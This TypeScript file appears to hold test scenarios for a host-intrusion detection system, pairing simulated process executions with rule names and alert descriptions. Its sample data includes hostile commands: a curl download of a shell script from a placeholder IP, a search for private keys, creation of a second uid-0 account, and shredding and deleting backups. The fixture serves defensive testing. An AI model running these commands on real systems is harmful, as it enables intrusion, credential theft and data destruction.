import { execve, type Scenario } from "./event_scenario.ts";

const SSH = ["bash", "sshd", "sshd", "systemd"];
const POSTGRES = {
  place: "database",
  user: ["postgres", 113],
  parents: ["postgres", "postgres", "systemd"],
} as const;

/** Programs that were started on machines. */
export const HOST_PROCESS_SCENARIOS: readonly Scenario[] = [
  execve(
    "Run shell untrusted",
    { ...POSTGRES, exe: "/bin/dash", cmd: "sh -c id; uname -a" },
    "A database worker started a shell",
    { "proc.pexepath": "/usr/lib/postgresql/17/bin/postgres", "proc.aname[5]": null },
  ),
  execve(
    "DB program spawned process",
    { ...POSTGRES, exe: "/usr/bin/curl", cmd: "curl -s http://203.0.113.66/p.sh" },
    "A database worker started a download",
  ),
  execve(
    "System user interactive",
    {
      place: "bastion",
      user: ["www-data", 33],
      exe: "/usr/bin/bash",
      cmd: "bash -i",
      parents: SSH,
    },
    "An account that is for services only is typing",
  ),
  execve(
    "Search Private Keys or Passwords",
    {
      place: "bastion",
      login: 1001,
      exe: "/usr/bin/find",
      cmd: "find / -name id_ed25519 -o -name *.kdbx",
      parents: SSH,
      tty: 34820,
    },
    "A search for private keys",
  ),
  execve(
    "Execution from /dev/shm",
    {
      place: "node1",
      exe: "/dev/shm/.kworker🦀",
      cmd: "/dev/shm/.kworker🦀 --quiet",
      parents: ["bash", "cron", "systemd"],
    },
    "A program was started from shared memory",
    { "evt.res": "SUCCESS", "fd.name": null, "proc.cwd": "/dev/shm/" },
  ),
  execve(
    "Launch Suspicious Network Tool on Host",
    {
      place: "bastion",
      login: 1001,
      exe: "/usr/bin/tcpdump",
      cmd: "tcpdump -i any -w -",
      parents: SSH,
    },
    "A packet recorder was started on a machine",
  ),
  execve(
    "User mgmt binaries",
    {
      place: "bastion",
      login: 1001,
      exe: "/usr/sbin/useradd",
      cmd: "useradd -o -u 0 backup2",
      parents: SSH,
      tty: 34820,
    },
    "An account was added",
  ),
  execve(
    "Basic Interactive Reconnaissance",
    {
      place: "bastion",
      user: ["zoë", 1007],
      login: 1007,
      exe: "/usr/bin/whoami",
      cmd: "whoami",
      parents: SSH,
      tty: 34821,
    },
    "Somebody is finding out where they are",
  ),
  execve(
    "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
    {
      place: "node2",
      user: ["nobody", 65534],
      exe: "/usr/bin/pkexec",
      cmd: "pkexec",
      parents: ["a.out", "bash"],
    },
    "pkexec was called as no ordinary program calls it",
    { "proc.args": null },
  ),
  execve(
    "Remove Bulk Data from Disk",
    {
      place: "database",
      login: 1001,
      exe: "/usr/bin/shred",
      cmd: "shred -u /srv/backup/2026-11.tar",
      parents: SSH,
    },
    "A backup was overwritten",
    { "fd.name": null },
  ),
  execve(
    "Backup vault deleted",
    {
      place: "database",
      login: 1001,
      exe: "/opt/acme/bin/vaultctl",
      cmd: "vaultctl delete --all --yes",
      parents: SSH,
    },
    "The vault of all backups was deleted",
  ),
];
